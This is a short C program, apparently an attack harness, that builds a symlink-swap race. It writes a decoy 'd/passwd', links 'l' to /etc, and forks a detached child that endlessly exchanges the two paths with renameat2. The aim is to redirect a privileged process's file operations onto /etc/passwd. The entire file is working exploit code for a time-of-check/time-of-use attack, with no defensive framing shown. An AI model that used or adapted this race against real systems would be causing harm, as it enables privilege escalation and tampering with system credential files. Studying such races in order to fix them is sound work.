#include "attack.h"

int main(void) {
  mkdir("d", 0755);
  mkdir("e", 0755);
  int fd = open("d/passwd", O_WRONLY | O_CREAT, 0644);
  write(fd, "mine", 4);
  close(fd);
  symlink("/etc", "l");
  if (fork() == 0) { setsid(); for (;;) syscall(SYS_renameat2, AT_FDCWD, "d", AT_FDCWD, "l", 2); }
  usleep(20000);
}
